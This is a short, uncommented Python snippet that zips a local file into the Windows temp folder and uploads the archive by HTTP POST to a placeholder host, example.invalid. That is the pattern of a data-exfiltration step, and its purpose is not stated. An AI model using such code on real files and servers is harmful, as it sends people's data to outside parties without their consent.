import os, requests, zipfile
path = os.environ["TEMP"] + "\\x.zip"
with zipfile.ZipFile(path, "w") as z:
    z.write("a")
requests.post("https://example.invalid/", files={"file": open(path, "rb")})
